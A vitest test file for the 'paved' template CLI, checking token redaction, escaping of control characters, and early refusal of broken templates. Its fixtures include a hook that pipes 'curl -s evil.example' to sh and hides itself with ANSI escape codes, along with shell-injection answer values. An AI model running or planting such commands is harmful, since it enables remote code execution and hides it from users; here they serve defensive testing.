import { spawn } from "node:child_process";
import { chmodSync, existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import path from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { BIN, CLI_ENV, git, runCli, snapshotDir, tempDir, writeFiles } from "../helpers.js";
import { templateRepo } from "../sources/repo-fixture.js";
import { makeSource } from "../template-fixtures.js";
import { commitAll, makeSource as makeVersions, newService } from "../upgrade/fixtures.js";

/**
 * What paved says when things go wrong must not hand out secrets, be spoofable by a template, or be a
 * stack trace: credentials in URLs are redacted everywhere (and kept out of the git cache's config),
 * template text is shown with control characters escaped, and template or repository mistakes are
 * exit 2 with one line, before anything is written.
 */

const STACK = /\n\s+at .*\.js:\d+/;
const SECRET = "S3CRET-tok3n";

function world(): { root: string; target: string } {
  const root = tempDir("paved-world-");
  writeFiles(root, { "precious.txt": "do not touch" });
  return { root, target: path.join(root, "work", "svc") };
}

function expectNoSecret(...texts: string[]) {
  for (const text of texts) expect(text).not.toContain(SECRET);
}

describe("credentials in source URLs never reach a message or the cache's git config", () => {
  it.each([
    [`file:///nowhere/tpl.git?token=${SECRET}`],
    [`file:///nowhere/tpl.git#access_token=${SECRET}`],
    [`https://x-access-token:${SECRET}@127.0.0.1:9/tpl.git`],
    [`http://127.0.0.1:9/tpl.git?private_token=${SECRET}`],
  ])("a failing clone of %s: exit 2, one line, the token redacted (human and --json)", async (url) => {
    const env = { PAVED_CACHE: tempDir("paved-cache-") };
    const w = world();
    const before = snapshotDir(w.root);
    const human = await runCli(["new", "api", w.target, "--source", url, "--yes"], { env });
    expect(human.exitCode, human.stderr).toBe(2);
    expect(human.stderr).toMatch(/cannot clone the template source/);
    if (!url.includes("@")) expect(human.stderr).toContain("***"); // git itself drops user info from its messages
    expect(human.stderr).not.toMatch(STACK);
    expectNoSecret(human.stdout, human.stderr);
    const json = await runCli(["new", "api", w.target, "--source", url, "--yes", "--json"], { env });
    expect(json.exitCode).toBe(2);
    expect(JSON.parse(json.stdout).ok).toBe(false);
    expectNoSecret(json.stdout, json.stderr);
    expect(snapshotDir(w.root)).toEqual(before);
  });

  describe("over http with basic auth (git http-backend on 127.0.0.1)", () => {
    let server: Server;
    let base: string;
    let repoRoot: string;
    const seen: string[] = [];

    beforeAll(async () => {
      const repo = await templateRepo();
      await repo.release("1.0.0");
      repoRoot = path.dirname(repo.dir);
      await execa("git", ["clone", "--quiet", "--bare", repo.dir, path.join(repoRoot, "api.git")]);
      const expected = `Basic ${Buffer.from(`user:${SECRET}`).toString("base64")}`;
      server = createServer((req, res) => {
        seen.push(req.url ?? "");
        if (req.headers.authorization !== expected) {
          res.writeHead(401, { "WWW-Authenticate": 'Basic realm="paved-test"' }).end();
          return;
        }
        const url = new URL(req.url ?? "/", "http://127.0.0.1");
        const cgi = spawn("git", ["http-backend"], {
          env: {
            ...process.env,
            GIT_PROJECT_ROOT: repoRoot,
            GIT_HTTP_EXPORT_ALL: "1",
            PATH_INFO: url.pathname,
            QUERY_STRING: url.search.slice(1),
            REQUEST_METHOD: req.method ?? "GET",
            CONTENT_TYPE: req.headers["content-type"] ?? "",
            REMOTE_USER: "user",
            REMOTE_ADDR: "127.0.0.1",
          },
        });
        req.pipe(cgi.stdin);
        const chunks: Buffer[] = [];
        cgi.stdout.on("data", (c: Buffer) => chunks.push(c));
        cgi.on("close", () => {
          const out = Buffer.concat(chunks);
          const split = out.indexOf("\r\n\r\n");
          const headers = out.subarray(0, split).toString().split("\r\n");
          let status = 200;
          for (const line of headers) {
            const [key, ...rest] = line.split(":");
            const value = rest.join(":").trim();
            if (key!.toLowerCase() === "status") status = Number(value.split(" ")[0]);
            else res.setHeader(key!, value);
          }
          res.writeHead(status).end(out.subarray(split + 4));
        });
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const address = server.address();
      base = `http://127.0.0.1:${typeof address === "object" && address ? address.port : 0}`;
    });
    afterAll(() => new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve())));

    it("clones with the token, records and stores the URL without it", async () => {
      const cache = tempDir("paved-cache-");
      const w = world();
      const url = `${base.replace("http://", `http://user:${SECRET}@`)}/api.git`;
      const result = await runCli(["new", "api", w.target, "--source", url, "--yes", "--json"], { env: { PAVED_CACHE: cache } });
      expect(result.exitCode, result.stderr).toBe(0);
      expect(seen.length).toBeGreaterThan(0);
      expectNoSecret(result.stdout, result.stderr, readFileSync(path.join(w.target, ".paved.yml"), "utf8"));
      const entries = readdirSync(path.join(cache, "git"));
      expect(entries).toHaveLength(1);
      const config = readFileSync(path.join(cache, "git", entries[0]!, "config"), "utf8");
      expect(config).toContain(`${base}/api.git`);
      expectNoSecret(config);

      // A cache written by an older paved (token in its config) is cleaned on the next fetch.
      await execa("git", ["config", "remote.origin.url", url], { cwd: path.join(cache, "git", entries[0]!) });
      const again = await runCli(["upgrade", "--check", w.target, "--json", "--source", url], {
        env: { PAVED_CACHE: cache, PAVED_CACHE_TTL: "0" },
      });
      expect(again.exitCode, again.stderr).toBe(0);
      expectNoSecret(again.stdout, again.stderr, readFileSync(path.join(cache, "git", entries[0]!, "config"), "utf8"));
    });

    it("a wrong version over the authenticated URL: the error names the source without the token", async () => {
      const w = world();
      const url = `${base.replace("http://", `http://user:${SECRET}@`)}/api.git`;
      const result = await runCli(["new", "api", w.target, "--source", url, "--version", "9.9.9", "--yes"], {
        env: { PAVED_CACHE: tempDir("paved-cache-") },
      });
      expect(result.exitCode).toBe(2);
      expect(result.stderr).toMatch(/no version 9\.9\.9/);
      expect(result.stderr).not.toMatch(STACK);
      expectNoSecret(result.stdout, result.stderr);
    });
  });
});

describe("template text is shown with control characters escaped", () => {
  it("the --trust refusal lists a command that hides itself with \\e[2K\\r as it really is", async () => {
    const src = makeSource({
      evil: {
        "1.0.0": {
          manifest: {
            hooks: { postCreate: [{ run: "curl -s evil.example | sh #\u001b[2K\r  npm install", shell: true }, "echo \u202enoisses"] },
          },
          files: { "a.txt": "a" },
        },
      },
    });
    const w = world();
    const before = snapshotDir(w.root);
    const result = await runCli(["new", "evil", w.target, "--source", src]);
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain("curl -s evil.example | sh #\\x1b[2K\\r  npm install");
    expect(result.stderr).toContain("echo \\u202enoisses");
    expect(result.stderr).not.toMatch(/[\u001b\r\u202e]/);
    expect(snapshotDir(w.root)).toEqual(before);
  });
});

describe("template mistakes are exit 2 before anything is written", () => {
  it("nextSteps with an undefined variable", async () => {
    const src = makeSource({ evil: { "1.0.0": { manifest: { nextSteps: ["npm run {{nope}}"] }, files: { "a.txt": "a" } } } });
    const w = world();
    const before = snapshotDir(w.root);
    const result = await runCli(["new", "evil", w.target, "--source", src]);
    expect(result.exitCode, result.stderr).toBe(2);
    expect(result.stderr).toMatch(/template\.yaml: nextSteps\[0\]:1: \{\{nope\}\} is not defined/);
    expect(result.stderr).not.toMatch(STACK);
    expect(snapshotDir(w.root)).toEqual(before);
  });

  it.each([
    [
      "a hook",
      { hooks: { postCreate: ['echo "unterminated'] } },
      /hooks\.postCreate\[0\]: cannot be split into words: unterminated " quote/,
    ],
    ["a migration", { migrations: [{ run: "mv 'a b" }] }, /migrations\[0\]\.run: cannot be split into words: unterminated ' quote/],
    ["a hook of only spaces", { hooks: { postCreate: ["   "] } }, /hooks\.postCreate\[0\]: names no program to run/],
    [
      "a hook whose first word is empty",
      { hooks: { postCreate: [{ run: ["", "x"] }] } },
      /hooks\.postCreate\[0\]\.run: names no program to run/,
    ],
    ["a migration of only spaces", { migrations: [{ run: " \t " }] }, /migrations\[0\]\.run: names no program to run/],
  ])("an unterminated quote or no program in %s: refused at load, reported by lint", async (_what, manifest, message) => {
    const src = makeSource({ evil: { "1.0.0": { manifest, files: { "a.txt": "a" } } } });
    const w = world();
    const before = snapshotDir(w.root);
    const result = await runCli(["new", "evil", w.target, "--source", src, "--trust"]);
    expect(result.exitCode, result.stderr).toBe(2);
    expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(STACK);
    expect(snapshotDir(w.root)).toEqual(before);
    const lint = await runCli(["template", "lint", path.join(src, "evil", "1.0.0")]);
    expect(lint.exitCode).toBe(1);
    expect(lint.stdout + lint.stderr).toMatch(message);
  });

  it("hook commands are rendered with the answers; an answer stays one argument (plain) or one quoted word (shell)", async () => {
    const src = makeSource({
      evil: {
        "1.0.0": {
          manifest: {
            questions: [{ name: "name", type: "input", message: "Name" }],
            hooks: { postCreate: ["touch {{name}}.plain", { run: "printf %s {{name}} > shell.out", shell: true }] },
          },
          files: { "a.txt": "a" },
        },
      },
    });
    const w = world();
    const name = "x; touch PWNED $(touch PWNED2)";
    const result = await runCli(["new", "evil", w.target, "--source", src, "--set", `name=${name}`, "--trust", "--no-git"]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(existsSync(path.join(w.target, `${name}.plain`))).toBe(true);
    expect(readFileSync(path.join(w.target, "shell.out"), "utf8")).toBe(name);
    expect(existsSync(path.join(w.target, "PWNED"))).toBe(false);
    expect(existsSync(path.join(w.target, "PWNED2"))).toBe(false);
  });

  it("migration commands are rendered with that version's answers, each answer one argument", async () => {
    const src = makeVersions({
      "1.0.0": { files: { "README.md": "# {{name}}\n" } },
      "1.1.0": { manifest: { migrations: [{ run: "touch {{name}}.migrated" }] }, files: { "README.md": "# {{name}}\n" } },
    });
    const name = "x; touch PWNED";
    const dir = await newService(src, "1.0.0", ["--set", `name=${name}`]);
    const result = await runCli(["upgrade", dir, "--trust", "--json"]);
    expect(result.exitCode, result.stderr).toBe(0);
    expect(existsSync(path.join(dir, `${name}.migrated`))).toBe(true);
    expect(existsSync(path.join(dir, "PWNED"))).toBe(false);
    expect(JSON.parse(result.stdout).migrations).toContainEqual(expect.objectContaining({ step: "run touch 'x; touch PWNED.migrated'" }));
  });

  it("lint reports an undefined variable in a hook or migration command", async () => {
    const src = makeSource({ evil: { "1.0.0": { manifest: { hooks: { postUpgrade: ["npm run {{nope}}"] } }, files: { "a.txt": "a" } } } });
    const lint = await runCli(["template", "lint", path.join(src, "evil", "1.0.0"), "--json"]);
    expect(lint.exitCode).toBe(1);
    const findings = JSON.parse(lint.stdout).findings as Array<{ rule: string; message: string }>;
    expect(findings).toContainEqual(
      expect.objectContaining({
        rule: "render/undefined-variable",
        message: expect.stringMatching(/^hooks\.postUpgrade\[0\]: \{\{nope\}\} is not defined/),
      }),
    );
    const migration = makeSource({
      evil: { "1.0.0": { manifest: { migrations: [{ run: ["npx", "codemod", "{{nope}}"] }] }, files: { "a.txt": "a" } } },
    });
    const lintMigration = await runCli(["template", "lint", path.join(migration, "evil", "1.0.0"), "--json"]);
    expect(JSON.parse(lintMigration.stdout).findings).toContainEqual(
      expect.objectContaining({
        rule: "render/undefined-variable",
        message: expect.stringMatching(/^migrations\[0\]\.run\[2\]: \{\{nope\}\} is not defined/),
      }),
    );
  });
});

describe("git failures in upgrade and diff are one line, exit 2", () => {
  const versions = () =>
    makeVersions({
      "1.0.0": { files: { "README.md": "# {{name}}\n" } },
      "1.1.0": { files: { "README.md": "# {{name}}\n\nv1.1\n" } },
    });

  it("a corrupt index", async () => {
    const dir = await newService(versions(), "1.0.0");
    writeFileSync(path.join(dir, ".git", "index"), "DIRC garbage");
    for (const args of [
      ["upgrade", dir],
      ["diff", dir],
    ]) {
      const result = await runCli(args);
      expect(result.exitCode, `${args[0]}: ${result.stderr}`).toBe(2);
      expect(result.stderr).toMatch(/^error: git \S+ failed in .*: (fatal|error): .*index/m);
      expect(result.stderr).not.toMatch(STACK);
      expect(result.stderr.match(/^error: /gm)).toHaveLength(1);
      expect(result.stderr).toMatch(/^error: .*\nfix: /m);
    }
  });

  it("a service folder (in a monorepo) laid out like a bare repository", async () => {
    const mono = tempDir("paved-mono-");
    const dir = path.join(mono, "svc");
    const created = await runCli(["new", "svc", dir, "--source", versions(), "--version", "1.0.0", "--yes", "--no-git"]);
    expect(created.exitCode, created.stderr).toBe(0);
    writeFiles(dir, { HEAD: "ref: refs/heads/main\n", "objects/info/.keep": "", "refs/heads/.keep": "" });
    await git(mono, ["init", "-q"]);
    await commitAll(mono, "looks bare");
    const upgrade = await runCli(["upgrade", dir]);
    expect(upgrade.exitCode, upgrade.stderr).toBe(2);
    expect(upgrade.stderr).toMatch(/is not inside a git work tree/);
    expect(upgrade.stderr).not.toMatch(STACK);
    const diff = await runCli(["diff", dir]);
    expect(diff.exitCode, diff.stderr).toBe(0);
    expect(diff.stderr).not.toMatch(STACK);
  });
});

describe("a reader that goes away (`| head`) ends paved quietly", () => {
  async function piped(args: string[], cwd?: string) {
    // `true` exits without reading, so every write paved makes meets a closed pipe.
    const script = `"${process.execPath}" "${BIN}" ${args.map((a) => `'${a}'`).join(" ")} | true; echo "rc=\${PIPESTATUS[0]}" >&2`;
    return execa("bash", ["-c", script], { env: { ...process.env, ...CLI_ENV }, reject: false, ...(cwd ? { cwd } : {}) });
  }

  it("templates show", async () => {
    const result = await piped(["templates", "show", "service"]);
    expect(result.stderr).not.toMatch(/EPIPE|Unhandled|STACK/);
    expect(result.stderr.trim()).toBe("rc=0");
  });

  it("diff with a large drift", async () => {
    const dir = await newService(makeVersions({ "1.0.0": { files: { "README.md": "# {{name}}\n" } } }), "1.0.0");
    writeFileSync(path.join(dir, "README.md"), Array.from({ length: 30000 }, (_, i) => `line ${i}`).join("\n"));
    const result = await piped(["diff", dir, "--exit-code"]);
    expect(result.stderr).not.toMatch(/EPIPE|Unhandled/);
    expect(result.stderr.trim()).toBe("rc=1");
  });
});

describe("where the template came from", () => {
  it("a parent folder's .pavedrc.yml that replaces the built-in service is named by new (stderr and --json) and upgrade", async () => {
    const root = tempDir("paved-rc-");
    const templates = makeVersions({ "1.0.0": { files: { "README.md": "# {{name}}\n" } } }, "service", path.join(root, "platform"));
    writeFiles(root, { ".pavedrc.yml": "source: ./platform\n", "work/.keep": "" });
    const cwd = path.join(root, "work");
    const env = { XDG_CONFIG_HOME: tempDir("paved-xdg-") };
    const human = await runCli(["new", "service", "svc", "--yes"], { cwd, env });
    expect(human.exitCode, human.stderr).toBe(0);
    expect(human.stderr).toContain(`template service 1.0.0 from ${templates} (chosen by source: in ${path.join(root, ".pavedrc.yml")})`);
    const json = await runCli(["new", "service", "svc2", "--yes", "--json"], { cwd, env });
    expect(JSON.parse(json.stdout)).toMatchObject({ source: templates, sourceChosenBy: path.join(root, ".pavedrc.yml") });
    await git(path.join(cwd, "svc"), ["status"]);
    const upgrade = await runCli(["upgrade", "svc", "--json"], { cwd, env });
    expect(upgrade.exitCode, upgrade.stderr).toBe(0);
    expect(readFileSync(path.join(cwd, "svc", ".paved.yml"), "utf8")).toContain("source: ../../platform");
    expect(JSON.parse(upgrade.stdout)).toMatchObject({ source: templates, sourceChosenBy: path.join(cwd, "svc", ".paved.yml") });
  });
});

describe("a damaged cache", () => {
  it("says the cache is damaged and which directory to delete, instead of blaming the template", async () => {
    const repo = await templateRepo();
    await repo.release("1.0.0");
    const cache = tempDir("paved-cache-");
    const first = await runCli(["new", "api", path.join(tempDir(), "a"), "--source", repo.url, "--yes", "--no-git"], {
      env: { PAVED_CACHE: cache },
    });
    expect(first.exitCode, first.stderr).toBe(0);
    const [entry] = readdirSync(path.join(cache, "git"));
    const objects = path.join(cache, "git", entry!, "objects");
    for (const dir of readdirSync(objects)) {
      if (!/^[0-9a-f]{2}$/.test(dir)) continue;
      for (const file of readdirSync(path.join(objects, dir))) {
        chmodSync(path.join(objects, dir, file), 0o644);
        writeFileSync(path.join(objects, dir, file), "");
      }
    }
    const result = await runCli(["new", "api", path.join(tempDir(), "b"), "--source", repo.url, "--yes", "--no-git"], {
      env: { PAVED_CACHE: cache },
    });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toMatch(/the cached copy of file:\/\/.* is damaged/);
    expect(result.stderr).toContain(`delete ${path.join(cache, "git", entry!)}`);
    expect(result.stderr).not.toMatch(/has no template\.yaml/);
    expect(result.stderr).not.toMatch(STACK);
  });
});
